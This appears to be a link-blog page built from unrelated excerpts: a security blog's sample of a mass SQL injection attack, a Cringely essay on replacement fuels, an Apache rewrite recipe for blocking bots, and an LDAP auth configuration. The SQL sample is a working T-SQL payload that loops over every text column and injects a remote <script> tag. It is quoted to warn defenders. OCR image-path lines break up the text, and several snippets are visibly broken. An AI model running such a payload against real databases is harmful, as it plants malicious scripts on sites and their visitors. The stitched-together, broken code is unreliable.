TrustedSource – Blog – New SQL Injection Attack Infecting Machines

Here’s a sample of the type of SQL Injection MSSQL (and possibly Sybase) databases may be subjected to:

DECLARE @T varchar(255), @C varchar(4000) DECLARE Table_Cursor CURSOR FOR select, from sysobjects a, syscolumns b where and a.xtype=’u’ and (b.xtype=99 or b.xtype=35 or b.xtype=231 or b.xtype=167) OPEN Table_Cursor FETCH NEXT FROM Table_Cursor INTO @T,@C WHILE(@@FETCH_STATUS=0) BEGIN exec(’update [‘+@T+’] set [‘+@C+’]=[‘+@C+’]+””></title><script src=” w.js”></script><!–” where ‘+@C+’ not like ”%”></title><script src=” “></script><!–”’)FETCH NEXT FROM Table_Cursor INTO @T,@C END CLOSE Table_Cursor DEALLOCATE Table_Cursor

 TrustedSource – Blog – New SQL Injection Attack Infecting Machines

I, Cringely . The Pulpit . It’s the Platform, Stupid | PBS

Bob's Weekly Technification

I, Cringely . The Pulpit . It’s the Platform, Stupid | PBS

Robert X. Cringely Cars are the key to U.S. energy consumption. The dominant automotive platform here, whether you drive a truck, a car, or a motorcycle, relies on gasoline-fueled internal combustion engines. That’s the platform we are unlikely to change quickly. So how do we leave that platform intact and unchanged, ask nobody to significantly sacrifice, yet still achieve the noble (and Nobel) goals of lower fuel consumption, lower greenhouse gas emissions, lower pollution levels, dramatically lower oil consumption, lower cost, and lower geopolitical vulnerability for our country? There’s only one way I know to accomplish this: change the fuel.This happened to a certain extent in Brazil during the ’70s and ’80s by embracing ethanol. But ethanol has less energy per gallon so fuel consumption goes up and mileage goes down. Ethanol can’t be shipped in pipelines also used for oil. Cars have to be modified to run on it and even then there are issues about internal corrosion. Ethanol is far from perfect. What’s needed is a replacement for gasoline that looks and feels and tastes just like gas to your car but isn’t made from oil. Then the platform could remain completely unchanged yet my 1966 Thunderbird (and the world) could benefit starting with the very next tankful.

There is such a fuel, developed by a husband and wife team of scientists working in Indiana in cooperation with Purdue University. This new fuel, called SwiftFuel, is right now intended for airplanes, not cars, but the lessons are the same.

How to nuke attackers via httpd.conf?

How to nuke attackers via httpd.conf?That can be accomplished using mod_access “Deny from <envar>” with mod_setenvif testing REQUEST_URI or by using mod_rewrite:

RewriteRule (¦xmlrpc.php¦includer.cgi¦$ - [F]

Of course, the problem is that you’ll still be wasting bandwidth sending your custom 403 error page to these idiots.A work-around (stay with me here) is to do the following:Create a new subdirectory below web root.Place a custom 403 error page in that subdirectory. Lets call it “403.html” for now. Leave out all the HEAD content, and just put a few characters in this file, so you can recognize it by filesize when fetched — I use just the text “No.”Now create an .htaccess file in that subdirectory that contains the following:

ErrorDocument 403 /path_to_this_subdirectory/403.html
Options +FollowSymLinks
RewriteEngine onRewriteRule !^403.html$ - [F]

Now, instead of the first codesnippet I posted above, use the following in httpd.conf or in your web root .htaccess file:

RewriteRule (¦xmlrpc.php¦includer.cgi¦$
/path_to_subdirectory/$1 [L]

Now when a bad-bot attempts to fetch one of those files, it gets rewritten to the subdirectory. But no files in that subdirectory are allowed to be fetched except for 403.html. So, the 403 error handler is invoked, and returns only a 403-Forbidden server response header and the three-byte response from 403.html, thus minimizing your bandwidth loss.

Authenticate Apache 2 using Mac OS X Open Directory – Authenticate Apache 2 using Mac OS X Open Directory

Change this:


to this:so it looks like this:

AuthType Basic
AuthName "Testing of LDAP auth"
AuthBasicProvider ldap
AuthzLDAPAuthoritative onAuthLDAPBindDN uid=testaccount1,cn=users,dc=geo,dc=vuw,dc=ac,dc=nz
AuthLDAPBindPassword [plaintext password for user 'testaccount1']
AuthLDAPURLldap://,dc=vuw,dc=ac,dc=nz
require valid-user

Clear as mud? 😉